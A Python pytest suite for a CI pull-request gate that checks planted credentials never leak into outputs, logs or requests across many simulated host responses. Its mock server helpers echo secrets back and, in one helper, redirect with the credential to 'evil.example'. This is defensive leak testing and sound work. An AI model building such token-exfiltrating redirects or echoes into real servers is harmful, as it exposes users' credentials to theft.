"""No credential shows in anything that a run leaves behind, whatever host it asks, however that answers, and wherever it came from."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING, NoReturn
from urllib.parse import quote

import pytest
import requests

from atlantis_gate.hosts import HOSTS
from hosts.github_apps import installation
from programs import gate, workspace
from security.planted import APP_KEY, ORIGINS, TRADED, VARIABLES, Planted, leaks, plant, seen, sent_to
from security.wire import Answer, Wire, answered, named, told, unaltered

if TYPE_CHECKING:
    from pathlib import Path

    from requests import PreparedRequest

    from programs import Ran
    from security.wire import Alter

# The credential in a file is the one that no variable shows.
IN_FILES = {
    "github": f"{APP_KEY}_FILE",
    "gitlab": "ATLANTIS_GITLAB_TOKEN_FILE",
    "bitbucket-cloud": "ATLANTIS_BITBUCKET_TOKEN_FILE",
    "bitbucket-data-center": "ATLANTIS_BITBUCKET_TOKEN_FILE",
    "azure-devops": "ATLANTIS_AZUREDEVOPS_TOKEN_FILE",
    "gitea": "ATLANTIS_GITEA_TOKEN_FILE",
}
COMMANDS = {
    "check": ("check", "--require", "approved,mergeable,undiverged", "--comment", "always", "--decision-file", "{folder}/decision.json"),
    "verify": ("verify", "--decision", "{folder}/decided.json"),
    "record": ("record", "--output", "{folder}/facts.json"),
    "projects": ("projects",),
    "doctor": ("doctor",),
}
DECIDED = {"version": 1, "command": "apply", "outcome": "allowed", "pull_request": {"repo": "acme/infra"}, "projects": []}


def echo(request: PreparedRequest) -> str:
    """Return what a careless server or proxy says of a request: its credential, in every form."""
    shown = [f"{name}: {value}" for name, value in request.headers.items() if "auth" in name.lower() or "token" in name.lower()]
    return " ".join([*shown, *(value.partition(" ")[2] for value in request.headers.values())])


def refusing(status: int) -> Alter:
    def alter(request: PreparedRequest, _: Answer) -> Answer:
        said = echo(request)
        names = (
            "X-Debug",
            "WWW-Authenticate",
            "X-OAuth-Scopes",
            "X-AUSERNAME",
            "X-TFS-ServiceError",
            "Retry-After"[: 20 * (status == 429)],
        )
        body = {"message": said, "errors": [{"message": said}], "error": {"message": said}}
        return answered(body, status, {name: said for name in names if name})

    return alter


def page(request: PreparedRequest, _: Answer) -> Answer:
    return Answer(200, {"Content-Type": "text/html"}, f"<html>you sent {echo(request)}</html>".encode())


def in_the_fields(request: PreparedRequest, answer: Answer) -> Answer:
    """Answer well, with the credential in every text."""
    try:
        value = answer.value
    except ValueError:
        return answer
    return answer.holding(_filled(value, echo(request)))


def _filled(value: object, text: str) -> object:
    if isinstance(value, dict):
        return {key: _filled(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [_filled(each, text) for each in value]
    return f"{value} {text}" if isinstance(value, str) else value


def in_the_headers(request: PreparedRequest, answer: Answer) -> Answer:
    return replace(answer, headers={**answer.headers, "X-Next-Page": echo(request), "Link": f'<https://x/?{echo(request)}>; rel="next"'})


def elsewhere(request: PreparedRequest, _: Answer) -> Answer:
    return Answer(302, {"Location": f"https://evil.example/?token={echo(request)}"}, b"")


def silent(request: PreparedRequest, _: Answer) -> NoReturn:
    raise requests.Timeout(echo(request))


CONDITIONS: dict[str, Alter] = {
    "well": unaltered,
    "401": refusing(401),
    "403": refusing(403),
    "404": refusing(404),
    "422": refusing(422),
    "429": refusing(429),
    "500": refusing(500),
    "page": page,
    "fields": in_the_fields,
    "headers": in_the_headers,
    "redirect": elsewhere,
    "timeout": silent,
}


def run(kind: str, command: str, planted: Planted, folder: Path, alter: Alter = unaltered) -> tuple[Ran, Wire]:
    """Run a subcommand on a story with the planted environment, in a job of GitHub Actions."""
    workspace(folder, {"root/staging/main.tf": "", "decided.json": json.dumps(DECIDED), "output": "", "summary.md": ""})
    ci = {"GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": str(folder / "output"), "GITHUB_STEP_SUMMARY": str(folder / "summary.md")}
    with told(kind, alter=alter) as (wire, connection):
        trade(wire)
        env = {**ci, "ATLANTIS_GATE_ROOT": str(folder / "root"), **named(kind, connection), **planted.env}
        return gate(*(part.format(folder=folder) for part in COMMANDS[command]), env=env), wire


def trade(wire: Wire) -> None:
    """Let GitHub's App have one installation, whose token is a secret too."""
    base = "https://api.github.com:443/app/installations"
    wire.besides["GET", base] = answered([installation()])
    wire.besides["POST", f"{base}/99/access_tokens"] = answered({"token": TRADED, "expires_at": "2099-01-01T00:00:00Z"}, 201)


@pytest.mark.parametrize(("kind", "variable"), [(kind, name) for kind, names in VARIABLES.items() for name in names])
@pytest.mark.parametrize("condition", ["well", "401"])
def test_no_variable_gives_its_secret_away(kind: str, variable: str, condition: str, tmp_path: Path) -> None:
    planted = plant(kind, variable, tmp_path)
    ran, wire = run(kind, "check", planted, tmp_path, CONDITIONS[condition])
    passes = condition == "well" and variable != "BITBUCKET_APP_PASSWORD"
    assert ran.code == (0 if passes else 2), ran.err
    assert leaks(planted.secrets, seen(ran, wire, tmp_path)) == []
    assert sent_to(wire) <= {ORIGINS[kind]}


@pytest.mark.parametrize("condition", CONDITIONS)
@pytest.mark.parametrize("kind", HOSTS)
def test_no_answer_makes_the_gate_give_a_secret_away(kind: str, condition: str, tmp_path: Path) -> None:
    planted = plant(kind, IN_FILES[kind], tmp_path)
    ran, wire = run(kind, "check", planted, tmp_path, CONDITIONS[condition])
    assert ran.code == (0 if condition == "well" else 2), ran.err
    assert leaks(planted.secrets, seen(ran, wire, tmp_path)) == []
    assert sent_to(wire) == {ORIGINS[kind]}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("kind", HOSTS)
def test_no_subcommand_gives_a_secret_away(kind: str, command: str, tmp_path: Path) -> None:
    planted = plant(kind, IN_FILES[kind], tmp_path)
    for condition in ("well", "403", "fields"):
        ran, wire = run(kind, command, planted, tmp_path, CONDITIONS[condition])
        assert "Traceback" not in ran.err, ran.err
        assert leaks(planted.secrets, seen(ran, wire, tmp_path)) == [], condition


@pytest.mark.parametrize("kind", HOSTS)
def test_a_bug_is_told_without_the_secrets_that_are_in_its_message(kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    planted = plant(kind, IN_FILES[kind], tmp_path)
    # A file that does not count is not read.
    known = [secret for name, secret in planted.secrets.items() if name == IN_FILES[kind] or not name.endswith("_FILE")]
    everything = "\n".join(form for secret in known for form in (secret, f"Bearer {secret}", repr(secret), quote(secret, safe="")))

    def broken(*_: object) -> NoReturn:
        raise ZeroDivisionError(everything)

    # The credential is known by then, and what it was traded for.
    monkeypatch.setattr("atlantis_gate.gate.evaluate", broken)
    ran, wire = run(kind, "check", planted, tmp_path, unaltered)
    assert (ran.code, "ZeroDivisionError" in ran.err) == (2, True)
    assert leaks(planted.secrets, seen(ran, wire, tmp_path)) == []


@pytest.mark.parametrize("kind", HOSTS)
def test_a_fact_that_is_refused_with_the_credential_in_the_words_is_reported_without_them(kind: str, tmp_path: Path) -> None:
    planted = plant(kind, IN_FILES[kind], tmp_path)
    _, well = run(kind, "check", planted, tmp_path, unaltered)
    posted = 0
    for place in dict.fromkeys(map(place_of, well.sent)):
        ran, wire = run(kind, "check", planted, tmp_path, only(place, refusing(403)))
        assert leaks(planted.secrets, seen(ran, wire, tmp_path)) == [], place
        posted += sum(request.method != "GET" and "unknown" in str(request.body) for request in wire.sent)
    assert posted


def place_of(request: PreparedRequest) -> tuple[str, str]:
    return str(request.method), str(request.url).partition("?")[0]


def only(place: tuple[str, str], alter: Alter) -> Alter:
    return lambda request, answer: alter(request, answer) if place_of(request) == place else answer
